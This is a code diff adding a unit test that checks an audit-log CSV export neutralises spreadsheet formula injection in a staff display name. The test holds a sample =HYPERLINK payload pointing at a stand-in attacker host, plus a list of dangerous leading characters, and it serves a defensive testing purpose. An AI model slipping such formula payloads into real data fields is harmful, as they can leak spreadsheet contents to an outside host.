@@ -153,6 +153,23 @@ def test_the_exported_log_masks_identity_numbers_and_accounts(
     assert [(e.action, e.after["rows"]) for e in exported if e.action == "audit.export"] == [("audit.export", rows)]
 
 
+def test_the_exported_log_carries_a_formula_staff_name_as_text(store: Store, tmp_path: Path) -> None:
+    """issue 14.2: a staff name typed as =HYPERLINK(...) is a text cell in the auditor's CSV, seq a number."""
+    from desktop.models import staff
+
+    hyperlink = '=HYPERLINK("http://evil.example/"&E2,"查看")'
+    auditor = staff.create_staff(store, actor=None, username="auditor9", display_name=hyperlink, role=Role.auditor,
+                                 office_code="440100", password="zhanchi-test-pw")
+    oversight.export_log(store, auditor, tmp_path / "first.csv")  # recorded under the auditor's name
+    oversight.export_log(store, auditor, tmp_path / "log.csv")
+    with (tmp_path / "log.csv").open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    mine = [r for r in rows if r["actor"] == "auditor9"]
+    assert mine and all(r["actor_name"] == "'" + hyperlink for r in mine)
+    assert all(r["seq"].isdigit() for r in rows)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+
+
 def test_the_dashboard_counts_today_and_this_month(
     store: Store, clock: Clock, verifier: Verifier, team: SimpleNamespace, make_intake: MakeIntake,
     paid_case: tuple[CaseRecord, dict[str, dt.datetime]]
